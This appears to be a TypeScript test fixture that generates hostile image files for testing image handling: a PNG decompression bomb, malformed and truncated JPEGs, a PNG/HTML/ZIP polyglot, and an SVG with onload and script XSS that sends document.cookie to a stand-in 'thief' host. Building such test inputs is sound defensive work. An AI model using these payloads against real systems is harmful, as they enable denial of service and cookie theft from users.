import { deflateSync, crc32 } from 'node:zlib';
import { plainImage } from '../testImages.ts';
import { commandLink, thief } from './texts.ts';

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** Some bytes that are 65,535 × 65,535 pixels, sixteen gigabytes of them. */
function bomb(): Buffer {
  const header = Buffer.from('0000ffff0000ffff0806000000', 'hex');
  const pixels = deflateSync(Buffer.alloc(1_000_000));
  const chunks = [chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([signature, ...chunks]);
}

/** A JPEG of a million empty pieces. */
function millionPieces(): Buffer {
  return Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(4_000_000, 'ffe10002', 'hex')]);
}

const script = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="alert(1)">
<script>fetch('${thief}/' + document.cookie); alert(1);</script>
<image href="${thief}/seen.png" width="1" height="1"/>
<foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
`;

/** A JPEG's end says how many pixels; there is none. */
const endless = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd8', 'hex');

/** Images that are made to hurt whoever opens them, by their names. */
export async function hostileImages(): Promise<Record<string, Buffer | string>> {
  const image = await plainImage('png', 10);
  return {
    'bomb.png': bomb(),
    'empty.png': '',
    'endless.jpg': endless,
    'million.jpg': millionPieces(),
    'page.png': `<html><script>alert(1)</script><body>${commandLink}</body></html>`,
    'polyglot.png': Buffer.concat([image, Buffer.from('<script>alert(1)</script>\nPK\x03\x04')]),
    'script.svg': script,
    'truncated.png': image.subarray(0, image.length / 2),
  };
}
